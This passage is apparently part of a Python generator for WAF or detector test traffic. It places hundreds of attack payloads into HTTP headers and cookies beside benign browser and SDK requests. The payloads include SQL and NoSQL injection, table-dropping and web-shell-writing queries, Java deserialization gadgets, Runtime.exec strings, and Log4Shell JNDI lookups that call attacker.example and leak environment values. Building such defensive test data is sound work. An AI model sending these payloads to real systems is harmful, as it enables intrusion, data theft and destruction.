        ("h:X-Request-Id", "a' waitfor delay '00:00:07'--"),
        ("h:X-Client-Name", "'; SHUTDOWN WITH NOWAIT;--"),
    ]),
    ("sqli", "nosql-mongodb", [
        ("c:prefs", '{"username":{"$ne":null},"password":{"$ne":null}}'),
        ("h:X-Filter", '{"$where":"sleep(5000)"}'),
        ("h:X-Search", '{"name":{"$regex":".*"}}'),
        ("c:user_id", '{"$gt":""}'),
        ("h:X-Tenant-Id", "[$ne]=1"),
        ("h:X-Client-Name", '{"$or":[{},{"a":"a"}]}'),
        ("h:X-Correlation-Id", '{"$expr":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}'),
        ("cn", "filter[$ne]"),
    ]),
    ("sqli", "sqli-stored-procedure", [
        ("h:X-Filter", "1; CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'--"),
        ("c:prefs", "'; exec sp_executesql N'select 1'--"),
        ("h:X-Search", "1; CREATE OR REPLACE FUNCTION x() RETURNS void AS $$ COPY t FROM PROGRAM 'id' $$ "
                       "LANGUAGE sql--"),
        ("h:X-Tenant-Id", "';PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)--"),
        ("c:user_id", "1 procedure analyse()"),
        ("h:X-Client-Name", "'; DECLARE @x INT; EXEC @x=sp_OACreate 'WScript.Shell',@x OUT--"),
        ("h:X-Api-Version", "1;exec sp_makewebtask '\\\\attacker.example\\s\\x.html','select 1'--"),
    ]),
    ("sqli", "sqli-udf-ddl", [
        ("h:X-Filter", "1; DROP TABLE users--"),
        ("c:prefs", "x'; ALTER TABLE accounts ADD is_admin int--"),
        ("h:X-Search", "1;select sys_eval('id')"),
        ("h:X-Tenant-Id", "'; INSERT INTO admins(name) VALUES('eve')--"),
        ("c:user_id", "1; TRUNCATE TABLE audit_log--"),
        ("h:X-Client-Name", "'; UPDATE users SET role='admin' WHERE id=42--"),
        ("h:X-Request-Id", "x';create table t(x text);copy t from program 'id'--"),
        ("h:X-Api-Version", "1;DELETE FROM sessions--"),
    ]),
    ("sqli", "sqli-concat-lfi", [
        ("h:X-Filter", "1 union select load_file('/etc/passwd')"),
        ("c:prefs", "x' into outfile '/var/www/html/s.php'--"),
        ("h:X-Search", "1; select '<?php system($_GET[c]);?>' into dumpfile '/var/www/x.php'"),
        ("h:X-Tenant-Id", "1;LOAD DATA INFILE '/etc/passwd' INTO TABLE t"),
        ("c:user_id", "42 UNION SELECT 1 INTO OUTFILE '/tmp/x'"),
        ("h:X-Client-Name", "'; select pg_read_file('/etc/passwd')--"),
        ("h:X-Api-Version", "1 and 1=2 union select concat(user,0x3a,password) from mysql.user"),
    ]),
    ("sqli", "sqli-mysql-inline-comment", [
        ("h:X-Tenant-Id", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2"),
        ("c:user_id", "1/*!UNION*/SELECT 2"),
        ("h:X-Filter", "x'/*!OR*/1=1-- "),
        ("h:X-Search", "/*!12345sleep(5)*/"),
        ("c:prefs", "1 /*!AND*/ 1=1"),
        ("h:X-Client-Name", "'/*!50400 or 1=1*/-- "),
        ("h:X-Request-Id", "%2F*!union*%2F%20select%201"),
    ]),
    ("sqli", "sqli-probe-quotes", [
        ("h:X-Tenant-Id", "acme'"),
        ("c:user_id", "42''"),
        ("h:X-Filter", 'status"'),
        ("h:X-Request-Id", "')"),
        ("c:recent_search", "shoes'--"),
        ("h:X-Search", "'\"`"),
        ("h:X-Client-Name", "1';"),
    ]),
    ("sqli", "sqli-operator", [
        ("h:X-Filter", "name LIKE '%admin%'"),
        ("c:user_id", "1 OR 2>1"),
        ("h:X-Search", "x' regexp '^a"),
        ("h:X-Tenant-Id", "id rlike 0x61"),
        ("c:prefs", "1 && 1"),
        ("h:X-Client-Name", "a' SOUNDS LIKE 'a"),
        ("h:X-Api-Version", "2 XOR 1"),
        ("h:X-Request-Id", "1 IS NOT NULL"),
    ]),
    ("sqli", "sqli-tautology", [
        ("h:X-Tenant-Id", "' or 'a'='a"),
        ("c:user_id", "1 or 1=1"),
        ("h:X-Filter", 'x" or "x"="x'),
        ("h:X-Search", "') or ('1'='1"),
        ("c:prefs", "1 and 2=2"),
        ("h:X-Client-Name", "admin' or 5>4--"),
        ("h:If-Match", '"abc" or "1"="1"'),
    ]),
    ("sqli", "sqli-function-names", [
        ("h:X-Filter", "1 and ascii(substring(user(),1,1))>64"),
        ("c:prefs", "concat_ws(0x3a,version(),database())"),
        ("h:X-Search", "x' and length(database())=8--"),
        ("h:X-Tenant-Id", "1 and ord(mid(@@version,1,1))=53"),
        ("c:user_id", "extractvalue(1,concat(0x5c,user()))"),
        ("h:X-Client-Name", "updatexml(null,concat(0x7e,version()),null)"),
        ("h:X-Api-Version", "1 and char_length(current_user)>0"),
    ]),
    ("sqli", "sqli-auth-bypass-a", [
        ("c:remember_user", "admin'--"),
        ("h:X-Client-Name", "' or ''='"),
        ("h:From", "admin@example.com'--"),
        ("h:X-Tenant-Id", '" or ""="'),
        ("c:login_hint", "admin' #"),
        ("h:X-Request-Id", "' or 1--"),
        ("h:X-Filter", "1' or '1"),
    ]),
    ("sqli", "sqli-comment-space-obfuscation", [
        ("h:X-Filter", "1/**/union/**/select/**/1,2"),
        ("c:user_id", "1'/**/or/**/'1'='1"),
        ("h:X-Search", "`users`.`password`"),
        ("h:X-Tenant-Id", "x`,(select 1))#"),
        ("c:prefs", "1%0bunion%0bselect%0b1"),
        ("h:X-Client-Name", "'+/*!or*/+1=1+--+"),
        ("h:X-Api-Version", "1'/*comment*/and/*x*/'a'='a"),
    ]),
    ("sqli", "sqli-chained-a", [
        ("h:X-Filter", "1; select * from users; --"),
        ("c:prefs", "'; drop table x; --"),
        ("h:X-Search", "x'); delete from logs where ('1'='1"),
        ("h:X-Tenant-Id", "1 ; update users set role='admin'"),
        ("c:user_id", "1);insert into t values(1)--"),
        ("h:X-Client-Name", '"; select version(); --'),
        ("h:X-Request-Id", "a'; exec('select 1'); --"),
    ]),
    ("sqli", "sqli-auth-bypass-b", [
        ("c:remember_user", "admin' or 'x'='x"),
        ("h:X-Client-Name", "x' or username like '%"),
        ("h:From", "' or 1=1 limit 1 -- -@example.com"),
        ("h:X-Tenant-Id", "' having 1=1--"),
        ("c:login_hint", "a' or true--"),
        ("h:X-Filter", "') or true--"),
        ("h:X-Device-Id", "' group by userid having 1=1--"),
    ]),
    ("sqli", "sqli-char-conditions", [
        ("h:X-Filter", "1 and char(49)=char(49)"),
        ("c:prefs", "concat(char(97),chr(98))"),
        ("h:X-Search", "x' and 1=1#"),
        ("h:X-Tenant-Id", "') or ('a')=('a') #"),
        ("c:user_id", "1) and (1)=(1)-- "),
        ("h:X-Client-Name", "char(0x41)||chr(66)"),
        ("h:X-Api-Version", "2 or 3=3 #"),
    ]),
    ("sqli", "sqli-chained-b", [
        ("h:X-Filter", "1);select 1;--"),
        ("c:prefs", 'x"; select @@version #'),
        ("h:X-Search", "'; select * from information_schema.tables limit 1; #"),
        ("h:X-Tenant-Id", "1)) or 1=1;--"),
        ("c:user_id", "1; if (1=1) select 1 else select 0"),
        ("h:X-Client-Name", "\"); waitfor delay '0:0:3'; --"),
    ]),
    ("sqli", "sqli-probe-classic-a", [
        ("h:X-Filter", "' or 1=1 #"),
        ("c:prefs", '" or "a"="a'),
        ("h:X-Search", "1' and 'a'='a"),
        ("h:X-Tenant-Id", "x' or 'x'='x"),
        ("c:user_id", "1 or 1 like 1"),
        ("h:X-Client-Name", "') or '1'='1'--"),
        ("h:X-Request-Id", "\"' or '\""),
    ]),
    ("sqli", "sqli-auth-bypass-c", [
        ("c:remember_user", "admin')--"),
        ("h:X-Client-Name", "') or ('x'='x"),
        ("h:X-Tenant-Id", '") or ("x"="x'),
        ("c:login_hint", 'admin")--'),
        ("h:From", "x') or 1=1 limit 1--@example.com"),
        ("h:X-Filter", "' or 'a'='a' and 'b'='b"),
        ("h:X-Device-Id", "x'))or(('1'='1"),
    ]),
    ("sqli", "sqli-alter-union", [
        ("h:X-Filter", "1' union all (select 1)"),
        ("c:prefs", "x'; alter user root identified by 'x'--"),
        ("h:X-Search", "a union (select null)"),
        ("h:X-Tenant-Id", "' alter table t drop column c--"),
        ("c:user_id", "1 UNION DISTINCT SELECT 1"),
        ("h:X-Client-Name", "1) union (select 2"),
    ]),
    ("sqli", "sqli-probe-classic-b", [
        ("h:X-Filter", "1' or 2-1=1--"),
        ("c:prefs", '")) or (("x"="x'),
        ("h:X-Search", "' - '"),
        ("h:X-Tenant-Id", "a' || 'b"),
        ("c:user_id", "1' and '1'<'2"),
        ("h:X-Client-Name", 'x" or 1 -- -'),
        ("h:X-Request-Id", '1" and "1">"0'),
    ]),
    ("sqli", "sqli-keywords-a", [
        ("h:X-Filter", "1 order by 10--"),
        ("c:prefs", "x' having 1=1--"),
        ("h:X-Search", "1 and exists(select 1)"),
        ("h:X-Tenant-Id", "1 group by 1,2,3--"),
        ("c:user_id", "1 limit 1 offset 1--"),
        ("h:X-Client-Name", "x' procedure analyse()--"),
        ("h:X-Api-Version", "2 into @a--"),
    ]),
    ("sqli", "sqli-keywords-b", [
        ("h:X-Filter", "1 or 1 between 0 and 2"),
        ("c:prefs", "x' and 1 in (1)--"),
        ("h:X-Search", "1 or 1 is not null"),
        ("h:X-Tenant-Id", "' or 'a' between 'a' and 'b"),
        ("c:user_id", "1 xor 0"),
        ("h:X-Client-Name", "1' and 2 div 1--"),
        ("h:X-Api-Version", "1 or 2 not in (3)"),
    ]),
    ("sqli", "sqli-keywords-c", [
        ("h:X-Filter", "' and (select count(*) from users)>0 --"),
        ("c:prefs", "x' or exists(select 1 from dual)--"),
        ("h:X-Search", "1 and 1=(select 1)"),
        ("h:X-Tenant-Id", "acme' and (select substr(version(),1,1))='8"),
        ("c:user_id", "1 or (select 'a')='a'"),
        ("h:X-Client-Name", "x' and not exists(select * from admins)--"),
    ]),
    ("sqli", "sqli-function-call-list", [
        ("h:X-Filter", "1 and hex(user())"),
        ("c:prefs", "cast(version() as char)"),
        ("h:X-Search", "x' and md5(1)--"),
        ("h:X-Tenant-Id", "1 and unhex(hex(1))=1"),
        ("c:user_id", "convert(int,db_name())"),
        ("h:X-Client-Name", "group_concat(table_name)"),
        ("h:X-Api-Version", "1 and substring(@@version,1,1)=5"),
        ("h:X-Request-Id", "coalesce(null,user())"),
    ]),
    ("sqli", "sqli-vendor-keywords", [
        ("h:X-Filter", "xp_regread"),
        ("c:prefs", "'||utl_http.request('http://attacker.example/')||'"),
        ("h:X-Search", "x' and dbms_pipe.receive_message('a',10)=1--"),
        ("h:X-Tenant-Id", "sp_password"),
        ("c:user_id", "1 and sys_context('USERENV','CURRENT_USER')='X'"),
        ("h:X-Client-Name", "'; exec xp_servicecontrol 'start','schedule'--"),
        ("h:X-Api-Version", "dbms_java.runjava('x')"),
        ("h:X-Request-Id", "utl_inaddr.get_host_address('attacker.example')"),
    ]),
    ("sqli", "sqli-keyword-pairs", [
        ("h:X-Filter", "select * from users where 1"),
        ("c:prefs", "insert into logs values ('x')"),
        ("h:X-Search", "delete from sessions where 1"),
        ("h:X-Tenant-Id", "update users set role='admin'"),
        ("c:user_id", "select top 1 name from sysobjects"),
        ("h:X-Client-Name", "create table x (a int)"),
        ("h:X-Api-Version", "drop table audit"),
    ]),
    ("sqli", "sqli-special-char-anomaly", [
        ("c:prefs", "')));--#''\"\"``;;//**"),
        ("h:X-Filter", "((((((((((((((1))))))))))))))"),
        ("h:X-Search", "'\"'\"'\"'\"'\"'\"'\""),
        ("h:X-Tenant-Id", "~!@#$%^&*()_+{}|:<>?~!@#"),
        ("c:user_id", "1;;;;;;;;;;;;;;;--"),
        ("h:X-Client-Name", "a'||'b'||'c'||'d'||'e'||'f'"),
    ]),
    ("sqli", "sqli-comment-sequence", [
        ("h:X-Tenant-Id", "acme'--"),
        ("c:user_id", "42/*"),
        ("h:X-Filter", "x';#"),
        ("h:X-Search", "1--+"),
        ("c:prefs", "*/ or 1=1 /*"),
        ("h:X-Client-Name", "a'/*"),
        ("h:X-Request-Id", "1;--"),
    ]),
    ("sqli", "sqli-hex-encoding", [
        ("h:X-Filter", "0x61646d696e"),
        ("c:user_id", "1 union select 0x3c3f706870"),
        ("h:X-Search", "x' or name=0x61646d696e--"),
        ("h:X-Tenant-Id", "0x27206f7220313d31"),
        ("c:prefs", "select unhex(0x414243)"),
        ("h:X-Client-Name", "0X2F6574632F706173737764"),
    ]),
    ("sqli", "sqli-backtick-bypass", [
        ("h:X-Filter", "`id`=1 or `x`=`x`"),
        ("c:user_id", "1`or`1"),
        ("h:X-Search", "x'or`a`='a"),
        ("h:X-Tenant-Id", "`users` where 1=1"),
        ("c:prefs", "'`or 1=1--"),
        ("h:X-Client-Name", "x``;select 1"),
    ]),
    ("sqli", "sqli-json-based", [
        ("h:X-Filter", "' or json_extract('{\"a\":1}','$.a')=1--"),
        ("c:prefs", "1 and '{\"a\":2}'->'$.a'=2"),
        ("h:X-Search", "x' or '{}'::jsonb @> '{}'--"),
        ("h:X-Tenant-Id", "1 and json_keys((select convert((select concat(user())) using utf8)))"),
        ("c:user_id", "' or json_length('[1,2]')=2--"),
        ("h:X-Client-Name", "1 and jsonb_typeof('{}')='object'"),
        ("h:X-Api-Version", "' union select json_arrayagg(password) from users--"),
    ]),
    ("sqli", "sqli-scientific-notation", [
        ("h:X-Filter", "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1,1) ,1,1)))"),
        ("c:user_id", "1e0union select 1"),
        ("h:X-Search", "0.1e1or 1=1"),
        ("h:X-Tenant-Id", "1.e(1)or 1=1"),
        ("c:prefs", "'1.e('=''"),
        ("h:X-Client-Name", "1.1e1union/**/select 2"),
    ]),
    ("sqli", "sqli-auth-bypass-split-query", [
        ("c:remember_user", "admin'/*"),
        ("h:X-Client-Name", "*/ or 1=1 -- "),
        ("h:X-Tenant-Id", "' OR 1=1 LIMIT 1 OFFSET 0/*"),
        ("c:login_hint", "'||'1'='1"),
        ("h:From", "a@example.com'/*"),
        ("h:X-Filter", "*/ OR ''='"),
    ]),
    ("sqli", "sqli-auth-bypass-d", [
        ("c:remember_user", "' or 'a'<>'b"),
        ("h:X-Client-Name", "admin' and 1=1 and '"),
        ("h:X-Tenant-Id", "' or 1 in (1)--"),
        ("c:login_hint", "' or 'x' like 'x"),
        ("h:From", "x' or not 0--@example.com"),
        ("h:X-Filter", "' or 2>=1--"),
    ]),
    # ---------------------------------------------------------------- Java
    ("java", "java-class-runtime", [
        ("c:prefs", 'java.lang.Runtime.getRuntime().exec("id")'),
        ("h:X-Client-Name", "java.lang.ProcessBuilder"),
        ("h:User-Agent", "Mozilla/5.0 ${T(java.lang.Runtime).getRuntime().exec('id')}"),
        ("h:X-Filter", "new java.lang.ProcessBuilder({'sh','-c','id'}).start()"),
        ("c:theme", "java.lang.Runtime"),
        ("h:X-Search", "(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))"),
        ("h:Accept-Language", "java.lang.Runtime"),
    ]),
    ("java", "java-process-spawn", [
        ("c:prefs", "<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>"),
        ("h:X-Client-Name", 'ProcessBuilder pb = new ProcessBuilder("calc"); pb.start();'),
        ("h:X-Filter", "java.lang.ProcessBuilder().command('sh','-c','id').start()"),
        ("h:X-Search", 'Runtime.getRuntime().exec("curl attacker.example")'),
        ("c:recent_search", "processbuilder.start()"),
        ("h:Content-Disposition", "<java.lang.ProcessBuilder>"),
        ("h:X-Tenant-Id", "<command><string>/bin/sh</string></command>"
                          "<redirectErrorStream>false</redirectErrorStream>"),
    ]),
    ("java", "java-deser-gadget", [
        ("c:session_data", "org.apache.commons.collections.functors.InvokerTransformer"),
        ("h:X-Client-Name", "org.apache.commons.collections4.functors.ChainedTransformer"),
        ("h:X-Filter", "sun.reflect.annotation.AnnotationInvocationHandler"),
        ("c:prefs", "java.util.PriorityQueue org.apache.commons.beanutils.BeanComparator"),
        ("h:X-Search", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"),
        ("h:X-Api-Version", "javax.management.BadAttributeValueExpException"),
        ("h:X-Tenant-Id", "org.codehaus.groovy.runtime.ConvertedClosure"),
    ]),
    ("java", "java-class-names", [
        ("c:prefs", "com.sun.rowset.JdbcRowSetImpl"),
        ("h:X-Client-Name", "java.net.URLClassLoader"),
        ("h:X-Filter", "javax.script.ScriptEngineManager"),
        ("h:X-Search", "java.lang.reflect.Method"),
        ("c:theme", "org.springframework.beans.factory.config.PropertyPathFactoryBean"),
        ("h:X-Api-Version", "java.io.FileOutputStream"),
        ("h:X-Tenant-Id", "javax.naming.InitialContext"),
    ]),
    ("java", "java-serial-magic", [
        ("c:session_data", "aced00057372001a6a6176612e7574696c2e48617368536574"),
        ("h:X-Client-Name", "\\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashMap"),
        ("c:prefs", "%AC%ED%00%05sr%00%0Ejava.lang.Long"),
        ("h:X-Filter", "ACED0005"),
        ("h:X-Request-Id", "0xaced0005737200"),
        ("c:remember", "%ac%ed%00%05%73%72"),
    ]),
    ("java", "java-serial-base64", [
        ("c:session_data", _JAVA_B64_MAP),
        ("c:remember_me", _JAVA_B64_LIST),
        ("h:X-Client-Name", _JAVA_B64_STR),
        ("h:X-Filter", _JAVA_B64URL),
        ("h:X-Device-Id", _JAVA_B64_MAP),
        ("h:If-None-Match", _JAVA_B64_LIST),
        ("cn", _JAVA_B64_STR),
    ]),
    ("java", "java-serial-classes", [
        ("c:prefs", "InstantiateTransformer"),
        ("h:X-Client-Name", "org.apache.commons.collections.functors.WhileClosure"),
        ("h:X-Filter", "PrototypeSerializationFactory"),
        ("h:X-Search", "java.beans.XMLDecoder"),
        ("c:session_data", "ForClosure"),
        ("h:X-Tenant-Id", "java.io.FileWriter"),
        ("h:X-Api-Version", "CloneTransformer"),
    ]),
    ("java", "java-method-names", [
        ("c:prefs", "Class.forName('java.lang.Runtime').getMethod('exec',String.class).invoke(null,'id')"),
        ("h:X-Client-Name", "x.getClass().getClassLoader()"),
        ("h:X-Filter", "''.class.forName('javax.script.ScriptEngineManager').newInstance()"),
        ("h:X-Search", "ClassLoader.defineClass(bytes)"),
        ("c:theme", "getRuntime().exec('id')"),
        ("h:X-Tenant-Id", "Thread.currentThread().getContextClassLoader()"),
        ("h:X-Api-Version", 'System.getProperty("user.dir")'),
    ]),
    ("java", "log4shell", [
        ("h:User-Agent", "${jndi:ldap://attacker.example:1389/a}"),
        ("h:X-Api-Version", "${jndi:rmi://203.0.113.9/Exploit}"),
        ("h:Referer", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
        ("c:prefs", "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/y}"),
        ("h:X-Request-Id", "${jndi:dns://${env:HOSTNAME}.attacker.example}"),
        ("h:Accept-Language", "${j${env:X:-n}di:ldaps://attacker.example/z}"),
        ("h:X-Forwarded-For", "${jndi:ldap://${sys:java.version}.attacker.example/}"),
        ("cn", "${jndi:ldap://attacker.example/cookie}"),
        ("h:If-None-Match", "${jndi:ldap://attacker.example/etag}"),
    ]),
    ("java", "java-class-loading", [
        ("c:prefs", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c}i"),
        ("h:X-Filter", "class.classLoader.URLs[0]=jar:http://attacker.example/x.jar!/"),
        ("h:X-Client-Name", "$$BCEL$$$l$8b$I$A$A$A$A$A$A$AmQ"),
        ("h:X-Search", "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("
                       "'http://attacker.example/x.jar')}).loadClass('X')"),
        ("cn", "class.module.classLoader.resources.context.parent.pipeline.first.suffix"),
        ("h:X-Tenant-Id", "com.sun.org.apache.bcel.internal.util.ClassLoader"),
        ("c:theme", "Class.forName('X', true, new URLClassLoader(urls))"),
    ]),
    ("java", "java-method-4x", [
        ("c:prefs", "java.lang.Runtime.getRuntime().exec"),
        ("h:X-Client-Name", "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime()"
                            ".exec('id').getInputStream(),x)"),
        ("h:X-Filter", "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime')}"),
        ("h:X-Search", "java.lang.reflect.Method.invoke"),
        ("h:Referer", "https://app.example.com/?x=${''.getClass().forName('java.lang.System')"
                      ".getMethod('exit',int.class)}"),
        ("h:X-Locale", "javax.script.ScriptEngineManager().getEngineByName('nashorn').eval('x')"),
    ]),
]

# Extra placements: the standard headers an application parses, so that every sub-family also reaches them
# (each entry keeps its own placement above; the second entry of each sub-family is sent once more, in the
# header named here, rotating, wrapped as that header is written).
EXTRA_HEADERS = ["Content-Language", "If-Match", "Range", "Prefer", "Cache-Control", "Warning", "Via", "From",
                 "Origin", "Content-Type", "X-Correlation-Id", "Accept", "X-Timezone", "Content-Disposition"]

UA_BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 " \
             "Safari/537.36"
UA_SDK = "acme-sdk-python/2.3.1 python/3.12.3 requests/2.31.0"
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
SEC_CH_UA = '"Google Chrome";v="125", "Chromium";v="125", "Not.A/Brand";v="24"'


def _hex(seed: str, n: int = 32) -> str:
    return hashlib.sha256(seed.encode()).hexdigest()[:n]


def _uuid(seed: str) -> str:
    h = _hex(seed)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def _token(seed: str) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(seed.encode()).digest()).decode().rstrip("=")


SDK_ROUTES = ("api-list", "api-item", "api-create")
ROUTES = ("api-list", "api-item", "api-create", "admin-search", "me-settings")


def _route(route: str, seed: str) -> tuple[str, str, str, dict[str, str], list[tuple[str, str]]]:
    """(method, uri, body, headers without Cookie, cookies) of one ordinary request to our routes."""
    if route in SDK_ROUTES:
        headers = {"User-Agent": UA_SDK, "Accept": "application/json", "Accept-Encoding": "gzip, deflate",
                   "X-Api-Version": "2024-06-01", "X-Request-Id": _uuid(seed), "X-Client-Name": "acme-python"}
        cookies = [("session", _token(seed))]
        if route == "api-list":
            return "GET", "/api/users?page=2", "", headers, cookies
        if route == "api-item":
            return "GET", "/api/users/42", "", headers, cookies
        body = json.dumps({"name": "Ann Lee", "email": "ann.lee@example.org", "role": "member"})
        return "POST", "/api/users", body, {**headers, "Content-Type": "application/json"}, cookies
    headers = {"User-Agent": UA_BROWSER, "Accept": ACCEPT_HTML, "Accept-Language": "en-US,en;q=0.9",
               "Accept-Encoding": "gzip, deflate, br, zstd", "Sec-CH-UA": SEC_CH_UA, "Sec-CH-UA-Mobile": "?0",
               "Sec-CH-UA-Platform": '"Windows"', "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "navigate",
               "Sec-Fetch-Dest": "document", "Upgrade-Insecure-Requests": "1"}
    cookies = [("session", _token(seed)), ("csrftoken", _hex(seed + "csrf")), ("_ga", "GA1.1.1843012345.1719216902")]
    if route == "admin-search":
        body = urllib.parse.urlencode([("csrf_token", _hex(seed + "csrf")), ("q", "lee"), ("page", "1")])
        return "POST", "/admin/users/search", body, {
            **headers, "Content-Type": "application/x-www-form-urlencoded", "Origin": "https://app.example.com",
            "Referer": "https://app.example.com/admin/users"}, cookies
    return "GET", "/me/settings", "", {**headers, "Referer": "https://app.example.com/me"}, cookies


_SCHEME = re.compile(r"^[A-Za-z][A-Za-z0-9+.\-]*:")


def _wrap(header: str, p: str) -> str:
    """A bare payload written the way `header` is written (ETags quoted, a Referer as a URL, ...)."""
    h = header.lower()
    if h in ("referer", "origin") and not (_SCHEME.match(p) or p.startswith("//")):
        return "https://app.example.com/search?q=" + p
    if h in ("if-match", "if-none-match") and not (p.startswith('"') or p.startswith("W/")):
        return f'"{p}"'
    if h == "via" and not p[:1].isdigit():
        return "1.1 " + p
    if h == "warning" and not p[:1].isdigit():
        return f'199 - "{p}"'
    if h == "range" and not p.startswith("bytes="):
        return "bytes=" + p
    if h == "content-disposition" and not p.startswith(("attachment", "inline", "form-data")):
        return f'attachment; filename="{p}"'
    if h == "content-type" and not p.startswith("application/"):
        return f'application/json; charset=utf-8; profile="{p}"'
    if h == "prefer" and "=" not in p.split(" ")[0]:
        return f"return=representation; handling={p}"
    if h == "cache-control" and not p.startswith(("no-", "max-", "()")):
        return f'max-age=0, x-tenant-hint="{p}"'
    return p


def _cookie_name(p: str) -> str:
    return "".join(f"%{ord(ch):02X}" if ch in " ;=,\t" else ch for ch in p)


def _attack_request(spec: str, payload: str, n: int, sub: str) -> tuple[dict[str, Any], str]:
    header = spec[2:] if spec.startswith("h:") else ""
    if header.lower() in ("content-type", "content-disposition"):
        route = "api-create"
    elif sub == "session-fixation-no-referer":
        route = SDK_ROUTES[n % 2]
    else:
        route = ROUTES[n % len(ROUTES)]
    method, uri, body, headers, cookies = _route(route, f"{NAME}-attack-{n}")
    if header:
        placement = "header:" + header
        value = _wrap(header, payload)
        headers = {k: v for k, v in headers.items() if k.lower() != header.lower()}
        headers[header] = value
    elif spec.startswith("c:"):
        placement = "cookie"
        name = spec[2:]
        cookies = [(k, v) for k, v in cookies if k != name] + [(name, payload.replace(";", "%3B"))]
    else:
        placement = "cookie-name"
        value = "true" if sub == "prototype-pollution" else "1"
        cookies = [*cookies, (_cookie_name(payload), value)]
    if sub == "session-fixation-no-referer":
        headers.pop("Referer", None)
    headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in cookies)
    for v in headers.values():
        assert not any(ch in v for ch in "\r\n\0"), v
    return {"method": method, "uri": uri, "body": body, "headers": headers}, placement


def _entries() -> Iterator[tuple[str, str, str, str]]:
    """(category, sub, placement spec, payload): each written entry, and the second entry of each sub-family once
    more in one of EXTRA_HEADERS, rotating."""
    k = 0
    for category, sub, entries in SUBS:
        for i, (spec, payload) in enumerate(entries):
            yield category, sub, spec, payload
            if i == 1:
                yield category, sub, "h:" + EXTRA_HEADERS[k % len(EXTRA_HEADERS)], payload
                k += 1


def attacks() -> Iterator[dict[str, Any]]:
    counts: dict[str, int] = {}
    for n, (category, sub, spec, payload) in enumerate(_entries(), start=1):
        counts[category] = counts.get(category, 0) + 1
        req, placement = _attack_request(spec, payload, n, sub)
        yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
               "placement": placement, "payload": payload}


# ---------------------------------------------------------------------------------------------- benign
BROWSER_UAS = [
    UA_BROWSER,
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
    "Safari/537.36 Edg/125.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.113 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 "
    "Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36 OPR/110.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.111 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile "
    "Safari/537.36 [FB_IAB/FB4A;FBAV/460.0.0.38.109;]",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Mobile/15E148 Instagram 330.0.0.40.92 (iPhone15,2; iOS 17_4; en_US; en; scale=3.00; 1179x2556; 601564237)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 "
    "Safari/537.36 Vivaldi/6.7.3329.35",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.5; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
]
SDK_UAS = [
    "python-requests/2.31.0", "okhttp/4.12.0", "axios/1.6.8", "Go-http-client/2.0", "curl/8.5.0",
    "PostmanRuntime/7.37.3", "aws-sdk-js/2.1600.0 linux/v20.12.2 callback", "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "Java-http-client/17.0.10", "Dart/3.3 (dart:io)", "AcmeApp/5.12.0 (iPhone; iOS 17.5; Scale/3.00)",
    "AcmeApp/5.12.0 (Linux; Android 14; Pixel 7 Build/AP2A.240605.024)", "GuzzleHttp/7 curl/7.81.0 PHP/8.1.2",
